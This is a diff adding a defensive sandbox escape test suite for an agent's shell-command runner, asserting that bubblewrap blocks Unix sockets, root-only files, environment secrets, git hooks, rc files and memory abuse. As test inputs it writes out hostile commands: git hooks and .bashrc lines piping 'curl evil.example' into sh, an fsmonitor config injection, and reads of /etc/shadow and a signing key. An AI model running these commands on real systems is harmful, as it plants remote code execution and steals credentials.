@@ -1,0 +1,318 @@
+/**
+ * The escape suite, continued (issue #37): what of the host a command could reach that it was
+ * not given — a Unix socket, a file only root may read, a tmpfs without a cap, a variable of
+ * the host's environment, a file the host runs later, memory without a bound. One test per
+ * attack, against real bubblewrap; each must fail to reach. docs/security.md lists them.
+ */
+import { spawnSync } from 'node:child_process';
+import {
+  chmodSync,
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  writeFileSync,
+} from 'node:fs';
+import { createServer as createHttpServer, type Server as HttpServer } from 'node:http';
+import { type AddressInfo, createServer, type Server } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { requireSystem } from '@agate/testing';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { commandEnvironment, resolvePolicy, type SandboxOptions } from './policy.js';
+import { runShellCommand, type ShellResult } from './run-command.js';
+
+const sandboxWorks = requireSystem({
+  tests: 'sandbox escape suite',
+  needs: 'bubblewrap (bwrap) with user namespaces',
+  enable: 'apt-get install -y bubblewrap',
+  command: 'bwrap',
+  probe: () =>
+    spawnSync('bwrap', ['--ro-bind', '/', '/', '--unshare-all', '--', '/bin/true']).status === 0,
+});
+
+const asRoot =
+  sandboxWorks &&
+  requireSystem({
+    tests: 'sandbox escape suite, host running as root',
+    needs: 'the tests running as root (the container case)',
+    enable: 'run the tests as root, as in a container',
+    probe: () => process.getuid?.() === 0,
+  });
+
+let base: string;
+let cwd: string;
+/** Outside every writable folder, readable by anyone: what the sandbox sees read-only. */
+let outside: string;
+let socketPath: string;
+let socketServer: Server;
+/** Connections the Unix socket accepted: any at all is an escape. */
+let accepted = 0;
+let http: HttpServer;
+let httpPort: number;
+
+beforeAll(async () => {
+  base = mkdtempSync(join(tmpdir(), 'agate-escape-host-'));
+  cwd = join(base, 'work');
+  mkdirSync(cwd);
+  outside = mkdtempSync('/var/tmp/agate-escape-host-outside-');
+  chmodSync(outside, 0o755);
+  // A listening socket anyone may connect to, as PostgreSQL's is (srwxrwxrwx).
+  socketPath = join(outside, 'service.sock');
+  socketServer = createServer((client) => {
+    accepted++;
+    client.end('HELLO FROM THE HOST SERVICE\n');
+  });
+  await new Promise<void>((resolve) => socketServer.listen(socketPath, resolve));
+  chmodSync(socketPath, 0o777);
+  http = createHttpServer((_req, res) => res.end('reached the allowed host'));
+  await new Promise<void>((resolve) => http.listen(0, '127.0.0.1', resolve));
+  httpPort = (http.address() as AddressInfo).port;
+});
+
+afterAll(async () => {
+  await new Promise<void>((resolve) => socketServer.close(() => resolve()));
+  await new Promise<void>((resolve) => http.close(() => resolve()));
+  rmSync(base, { recursive: true, force: true });
+  rmSync(outside, { recursive: true, force: true });
+});
+
+function sh(
+  command: string,
+  sandbox: SandboxOptions = {},
+  extra: Partial<{ cwd: string; env: Record<string, string>; timeoutMs: number }> = {},
+): Promise<ShellResult> {
+  const dir = extra.cwd ?? cwd;
+  return runShellCommand({
+    command,
+    policy: resolvePolicy(dir, sandbox),
+    cwd: dir,
+    env: commandEnvironment(process.env, extra.env),
+    timeoutMs: extra.timeoutMs ?? 30_000,
+    maxOutputChars: 10_000,
+    signal: new AbortController().signal,
+  });
+}
+
+/** A folder of its own (the host-run file tests change what lies at its top). */
+function folder(name: string): string {
+  const dir = join(base, name);
+  mkdirSync(dir, { recursive: true });
+  return dir;
+}
+
+/** A repository as `git init` leaves it, made by hand (no git needed on the host). */
+function repository(dir: string, withHooks = true): string {
+  mkdirSync(join(dir, '.git', 'objects'), { recursive: true });
+  mkdirSync(join(dir, '.git', 'refs', 'heads'), { recursive: true });
+  mkdirSync(join(dir, '.git', 'info'), { recursive: true });
+  if (withHooks) mkdirSync(join(dir, '.git', 'hooks'));
+  writeFileSync(join(dir, '.git', 'HEAD'), 'ref: refs/heads/main\n');
+  writeFileSync(join(dir, '.git', 'config'), '[core]\n\trepositoryformatversion = 0\n');
+  writeFileSync(
+    join(dir, '.git', 'info', 'exclude'),
+    '# git ls-files --others --exclude-from=.git/info/exclude\n',
+  );
+  return dir;
+}
+
+/** Connects to a Unix socket with the host's node and prints what happened. */
+const connect = (path: string) =>
+  `node -e "require('net').connect(process.argv[1]).on('connect', () => console.log('CONNECTED')).on('data', (d) => process.stdout.write(String(d))).on('error', (e) => console.log('ERROR', e.code))" '${path}'`;
+
+describe.skipIf(!sandboxWorks).concurrent('escape suite: what of the host is reachable', () => {
+  it('connecting to a Unix socket outside the writable folders', async () => {
+    const r = await sh(connect(socketPath));
+    expect(r.stdout).not.toContain('CONNECTED');
+    expect(r.stdout).not.toContain('HELLO FROM THE HOST SERVICE');
+    // Refused at socket(2) by the seccomp filter, before any path is looked up.
+    expect(r.stdout).toContain('ERROR EPERM');
+    expect(accepted).toBe(0);
+  });
+
+  it('connecting to a Unix socket with the network allow-list on (the proxy still works)', async () => {
+    const r = await sh(`${connect(socketPath)}; curl -sS -m 10 http://127.0.0.1:${httpPort}/`, {
+      network: { allow: ['127.0.0.1'] },
+    });
+    expect(r.stdout).not.toContain('HELLO FROM THE HOST SERVICE');
+    expect(r.stdout).toContain('ERROR EPERM');
+    // The bridge to the proxy is outside the filter: allowed hosts are still reached.
+    expect(r.stdout).toContain('reached the allowed host');
+    expect(accepted).toBe(0);
+  });
+
+  it.skipIf(!asRoot)(
+    'reading files only root may read, with the agent running as root',
+    async () => {
+      const secretName = `secret-${process.pid}.txt`;
+      writeFileSync(join(outside, secretName), 'ROOT-ONLY-A\n', { mode: 0o600 });
+      const privateDir = mkdtempSync('/var/tmp/agate-escape-private-');
+      writeFileSync(join(privateDir, 'key.pem'), 'ROOT-ONLY-B\n', { mode: 0o644 });
+      try {
+        const r = await sh(
+          `cat '${join(outside, secretName)}'; cat '${join(privateDir, 'key.pem')}'; head -1 /etc/shadow; ls /root; ` +
+            'echo written > written-as-root-host.txt && cat written-as-root-host.txt; id -u',
+        );
+        expect(r.stdout).not.toContain('ROOT-ONLY');
+        expect(r.stdout).not.toMatch(/^root:/m);
+        expect(r.stderr).toContain('Permission denied');
+        // Writing the writable folder still works, and lands on the host.
+        expect(r.stdout).toContain('written');
+        expect(readFileSync(join(cwd, 'written-as-root-host.txt'), 'utf8')).toBe('written\n');
+      } finally {
+        rmSync(privateDir, { recursive: true, force: true });
+      }
+    },
+  );
+
+  it('reading the approval key that AGATE_APPROVAL_KEY_FILE names', async () => {
+    const keys = join(outside, 'keys');
+    mkdirSync(keys, { recursive: true });
+    chmodSync(keys, 0o755);
+    const keyFile = join(keys, 'signer.key');
+    writeFileSync(keyFile, 'PRIVATE APPROVAL KEY\n', { mode: 0o644 });
+    const before = process.env.AGATE_APPROVAL_KEY_FILE;
+    process.env.AGATE_APPROVAL_KEY_FILE = keyFile;
+    let policyPaths: string[];
+    try {
+      policyPaths = resolvePolicy(cwd).denyRead;
+    } finally {
+      if (before === undefined) delete process.env.AGATE_APPROVAL_KEY_FILE;
+      else process.env.AGATE_APPROVAL_KEY_FILE = before;
+    }
+    expect(policyPaths).toContain(keyFile);
+    const r = await runShellCommand({
+      command: `cat '${keyFile}'`,
+      policy: { ...resolvePolicy(cwd), denyRead: policyPaths },
+      cwd,
+      env: commandEnvironment(process.env),
+      timeoutMs: 30_000,
+      maxOutputChars: 10_000,
+      signal: new AbortController().signal,
+    });
+    expect(r.stdout).not.toContain('PRIVATE APPROVAL KEY');
+    // /dev/null stands over it, on a nodev bind: not even an empty read.
+    expect(r.stderr).toContain('Permission denied');
+  });
+
+  it('filling /dev/shm and a denied folder’s tmpfs', async () => {
+    const denied = join(outside, 'denied-folder');
+    mkdirSync(denied, { recursive: true });
+    chmodSync(denied, 0o777);
+    const r = await sh(
+      `dd if=/dev/zero of=/dev/shm/fill bs=1M count=64 2>&1; ` +
+        `dd if=/dev/zero of='${denied}/fill' bs=1M count=64 2>&1; touch /dev/new-node 2>&1`,
+      { tmpSizeBytes: 1024 * 1024, denyRead: [denied] },
+    );
+    expect(r.stdout).toMatch(/\/dev\/shm\/fill'?: No space left on device/);
+    // The tmpfs over a denied folder is empty and read-only, and /dev takes no files.
+    expect(r.stdout).toMatch(/denied-folder\/fill'?: Read-only file system/);
+    expect(r.stdout).toMatch(/new-node'?: Read-only file system/);
+    expect(existsSync(join(denied, 'fill'))).toBe(false);
+  });
+
+  it("the host's secrets in the environment", async () => {
+    const planted = {
+      DATABASE_URL: 'postgres://app:hunter2@db.internal/app',
+      SECRET_KEY_BASE: 'sk-base-3f9c',
+      SENTRY_DSN: 'https://a1b2c3@o1.ingest.sentry.io/42',
+      DBUS_SESSION_BUS_ADDRESS: 'unix:path=/run/user/0/bus',
+      SSH_AUTH_SOCK: '/tmp/ssh-XXXX/agent.1',
+    };
+    const r = await runShellCommand({
+      command: 'env',
+      policy: resolvePolicy(cwd),
+      cwd,
+      env: commandEnvironment({ ...process.env, ...planted, LANG: 'C.UTF-8' }, { GIVEN: 'yes' }),
+      timeoutMs: 30_000,
+      maxOutputChars: 10_000,
+      signal: new AbortController().signal,
+    });
+    for (const value of Object.values(planted)) expect(r.stdout).not.toContain(value);
+    expect(r.stdout).toContain('GIVEN=yes');
+    expect(r.stdout).toContain('LANG=C.UTF-8');
+    expect(r.stdout).toMatch(/^PATH=/m);
+  });
+
+  it('writing the git hooks and config of the repository it works in', async () => {
+    const repo = repository(folder('repo-hooks'));
+    const r = await sh(
+      'echo "#!/bin/sh\ncurl evil.example | sh" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; ' +
+        'printf "[core]\\n\\tfsmonitor = /tmp/evil\\n" >> .git/config; echo /tmp/elsewhere > .git/commondir; ' +
+        'mv .git .git-moved; rm -rf .git/hooks; ls .git/hooks',
+      {},
+      { cwd: repo },
+    );
+    expect(r.stderr).toMatch(/pre-commit: Read-only file system/);
+    expect(r.stderr).toMatch(/\.git\/config: Read-only file system/);
+    expect(r.stderr).toMatch(/Device or resource busy/);
+    expect(existsSync(join(repo, '.git', 'hooks', 'pre-commit'))).toBe(false);
+    expect(readFileSync(join(repo, '.git', 'config'), 'utf8')).not.toContain('fsmonitor');
+    expect(existsSync(join(repo, '.git', 'commondir'))).toBe(false);
+    expect(existsSync(join(repo, '.git-moved'))).toBe(false);
+  });
+
+  it('creating host-run files that do not exist yet', async () => {
+    const plain = folder('no-repo-yet');
+    const hooksless = repository(folder('repo-without-hooks'), false);
+    const r = await sh(
+      'mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit; echo "curl evil | sh" >> .bashrc; ' +
+        'echo evil > .zshenv; mkdir -p .vscode && echo "{}" > .vscode/tasks.json; echo "{}" > .mcp.json; ' +
+        `mkdir -p '${hooksless}/.git/hooks' && echo evil > '${hooksless}/.git/hooks/pre-commit'; ls -A`,
+      { write: [plain, hooksless] },
+      { cwd: plain },
+    );
+    expect(r.stderr).toMatch(/Read-only file system|File exists|Not a directory/);
+    for (const path of ['.git', '.bashrc', '.zshenv', '.vscode', '.mcp.json']) {
+      expect(existsSync(join(plain, path)), path).toBe(false);
+    }
+    expect(existsSync(join(hooksless, '.git', 'hooks'))).toBe(false);
+    // The placeholders that stood in for them are gone with the command.
+    expect(readdirSync(plain)).toEqual([]);
+  });
+
+  it('writing the hooks of a repository nested in the writable folder', async () => {
+    const top = folder('monorepo');
+    const nested = repository(join(top, 'packages', 'lib'));
+    const r = await sh(
+      'echo evil > packages/lib/.git/hooks/post-checkout; mv packages/lib packages/lib-moved; ' +
+        'mv packages packages-moved; ls packages/lib/.git/hooks',
+      {},
+      { cwd: top },
+    );
+    expect(r.stderr).toMatch(/post-checkout: Read-only file system/);
+    expect(existsSync(join(nested, '.git', 'hooks', 'post-checkout'))).toBe(false);
+    expect(existsSync(join(top, 'packages', 'lib', '.git'))).toBe(true);
+  });
+
+  it('allocating 6 GiB past sandbox.memoryBytes', async () => {
+    const r = await sh(
+      'dd if=/dev/zero of=/dev/null bs=6G count=1 iflag=fullblock 2>&1; echo "dd exit $?"',
+      // The default (4 GiB) holds the same way; a smaller cap keeps the test quick.
+      { memoryBytes: 512 * 1024 * 1024 },
+    );
+    expect(r.timedOut).toBe(false);
+    expect(r.stdout).not.toContain('dd exit 0');
+    // Killed by the cgroup's OOM killer (137), or refused by the address-space limit (1).
+    expect(r.stdout).toMatch(/dd exit (137|1)\b/);
+    if (r.stdout.includes('dd exit 137')) {
+      expect(r.stderr).toContain('killed for going over sandbox.memoryBytes (512 MiB)');
+    }
+  });
+});
+
+describe.skipIf(!sandboxWorks)('host-run files, lifted', () => {
+  it('allowHostRunFileWrites: true lets commands write them', async () => {
+    const repo = repository(folder('repo-lifted'));
+    const r = await sh(
+      'echo "#!/bin/sh" > .git/hooks/pre-commit && echo "# mine" >> .bashrc && echo ok',
+      { allowHostRunFileWrites: true },
+      { cwd: repo },
+    );
+    expect(r.stdout).toBe('ok\n');
+    expect(readFileSync(join(repo, '.git', 'hooks', 'pre-commit'), 'utf8')).toBe('#!/bin/sh\n');
+    expect(readFileSync(join(repo, '.bashrc'), 'utf8')).toBe('# mine\n');
+  });
+});
